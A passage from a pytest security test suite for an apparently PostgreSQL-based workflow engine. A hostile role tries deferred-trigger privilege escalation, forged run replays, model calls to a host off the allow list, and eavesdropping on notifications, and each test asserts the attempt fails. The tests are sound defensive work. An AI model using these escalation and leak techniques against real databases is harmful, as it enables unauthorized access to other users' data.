                  (res["run_id"],))
        assert seen["user"] == VICTIM and seen["work_mem"] != "77kB" and seen["search_path"] != "mal"


def test_deferred_triggers_never_fire_outside_the_step(as_role):
    mal, admin = as_role(MALLORY), as_role()
    q(mal, """
        CREATE TABLE mal.bait (x int);
        CREATE FUNCTION mal.fire() RETURNS trigger LANGUAGE plpgsql AS $$
            BEGIN PERFORM mal.trap('deferred trigger'); RETURN NULL; END $$;
        CREATE CONSTRAINT TRIGGER later AFTER INSERT ON mal.bait
            DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION mal.fire();
    """)
    register(mal, """
name: mal_defer
steps:
  - { id: bait, kind: ModelOp, sql: "INSERT INTO mal.bait VALUES (1)" }
""")
    for mode in ("worker", "sync"):
        res = execute(mal, "mal_defer", {}, mode)
        assert res["status"] == "failed", res
        assert "deferred trigger" in res["error"], res
    assert trap_calls(admin, "deferred trigger") == []
    assert_no_escalation(admin)


def test_replaying_someone_elses_workflow_runs_with_mallorys_own_privileges(as_role):
    mal, vic = as_role(MALLORY), as_role(VICTIM)
    register(vic, f"""
name: vic_read
steps:
  - {{ id: read, kind: ModelOp, sql: "SELECT secret FROM {VICTIM}.private", routes: {{ default: done }} }}
ends:
  - {{ id: done, status: completed, response: "{{{{ read_result }}}}" }}
""")
    res = execute(vic, "vic_read", {}, "sync")
    assert res["response"] == [{"secret": "victim-only-data"}]
    # MALLORY cannot pin the victim's run, and a forged fixture runs as MALLORY
    code, _, _, _ = sqlerror(mal, "SELECT tuvl.pin_run(%s)", (res["run_id"],))
    assert code == "42704"
    fixture = q1(vic, "SELECT tuvl.pin_run(%s)", (res["run_id"],))
    with pytest.raises(psycopg2.Error) as e:
        q(mal, "SELECT tuvl.replay(%s)", (json.dumps(fixture),))
    assert "victim-only-data" not in str(e.value)
    assert "permission denied" in str(e.value) or "differ" in str(e.value)


def test_a_model_config_naming_a_host_off_the_allow_list_sends_nothing(as_role):
    mal = as_role(MALLORY)
    outside = recording_server("127.0.0.2")
    try:
        model = unique("far_")
        q(mal, "SELECT tuvl.register_llm(%s)",
          (f"name: {model}\nprovider: openai\nbase_url: {outside.base}/v1\nmodel: x\n",))
        register(mal, f"""
name: mal_far
steps:
  - {{ id: ask, kind: Agent, mode: completion, agent: {{ model: {model}, prompt: hi }} }}
""")
        for res in run_both(mal, "mal_far"):
            assert res["status"] == "failed" and "not allowed" in res["error"], res
        assert outside.requests == []
    finally:
        outside.close()


def test_notifications_carry_no_step_data(as_role):
    vic, mal = as_role(VICTIM), as_role(MALLORY)
    register(vic, f"""
name: vic_notify
steps:
  - {{ id: read, kind: ModelOp, sql: "SELECT secret FROM {VICTIM}.private" }}
""")
    # MALLORY listens where every event went before 0.3.0, and on her own channel
    q(mal, "LISTEN tuvl_events")
    listen_events(mal)
    listener = as_role(VICTIM)
    listen_events(listener)
    res = execute(vic, "vic_notify", {}, "worker")
    assert res["status"] == "completed"

    def mine(got):
        return [json.loads(n.payload) for n in got if json.loads(n.payload)["run_id"] == res["run_id"]]

    got = listen_notifies(listener, 10, lambda got: any(p["type"] == "run_completed" for p in mine(got)))
    payloads = mine(got)
    for p in payloads:
        assert set(p) <= {"run_id", "seq", "type", "agent_id"}, p
    assert "victim-only-data" not in json.dumps(payloads)
    # the victim's own channel carried them; MALLORY heard nothing of them
    assert mine(listen_notifies(mal, 1, lambda got: False, complete=True)) == []


def test_concurrent_runs_of_two_roles_each_run_as_their_own_principal(as_role):
    mal, vic, admin = as_role(MALLORY), as_role(VICTIM), as_role()
    register(mal, "name: mal_who\nsteps:\n  - { id: who, kind: ModelOp, sql: 'SELECT current_user AS u' }\n")
    register(vic, "name: vic_who\nsteps:\n  - { id: who, kind: ModelOp, sql: 'SELECT current_user AS u' }\n")
    ids = {}
    for _ in range(60):
        ids[q1(mal, "SELECT tuvl.start_run('mal_who')")] = MALLORY
        ids[q1(vic, "SELECT tuvl.start_run('vic_who')")] = VICTIM
    for run_id, role in ids.items():
        conn = mal if role == MALLORY else vic
        assert q1(conn, "SELECT tuvl.wait(%s, '20 s')", (run_id,)) == "completed"
    rows = q(admin, "SELECT id, context -> 'who_result' -> 0 ->> 'u', principal_id::text "
                    "FROM tuvl.runs WHERE id = ANY (%s)", (list(ids),))
    assert all(u == ids[i] == p for i, u, p in rows), rows


# ---------------------------------------------------------------------------
# The example of docs/security.md, as written


def test_the_least_privilege_example_of_the_docs(sec, as_role):
    import os
    import re
    doc = open(os.path.join(os.path.dirname(__file__), "..", "..", "docs", "security.md")).read()
    section = doc[doc.index("## A least-privilege application role"):]
    sql = re.search(r"```sql\n(.*?)```", section, re.S).group(1)
    sql = sql.replace("http://127.0.0.1:8080", HTTP_BASE)
    admin = as_role()
    try:
        q(admin, sql)
        assert q(admin, "SELECT status, principal FROM tuvl.runs WHERE workflow = 'shop_refund'") == [
            ("completed", "shop_app")]
        app = as_role("shop_app")
        # the application cannot change the workflow, and sees only its own run
        code, _, _, _ = sqlerror(app, "SELECT tuvl.register_workflow('name: shop_refund\nsteps:\n"
                                      "  - { id: x, kind: ModelOp, sql: \"SELECT 1 AS y\" }')")
        assert code == "42501"
        assert q1(app, "SELECT count(*) FROM tuvl.runs") == 1
        # the deploying role holds no grant for the token
        deploy = as_role()
        q(deploy, "SET ROLE shop_deploy")
        res = q1(deploy, "SELECT tuvl.run('shop_refund', '{\"order_id\": 1}')")
        assert res["status"] == "failed" and "shop_payments_token" in res["error"]
        q(deploy, "RESET ROLE")
    finally:
        q(admin, "DELETE FROM tuvl.journal WHERE run_id IN (SELECT id FROM tuvl.runs "
                 "WHERE workflow = 'shop_refund')")
        q(admin, "DELETE FROM tuvl.runs WHERE workflow = 'shop_refund'")
        q(admin, "DELETE FROM tuvl.workflows WHERE name = 'shop_refund'")
        q(admin, "DELETE FROM tuvl.secret_grants WHERE secret = 'shop_payments_token'")
        q(admin, "DROP SCHEMA IF EXISTS store CASCADE")
        q(admin, "DROP ROLE IF EXISTS shop_app")
        q(admin, "DROP ROLE IF EXISTS shop_deploy")
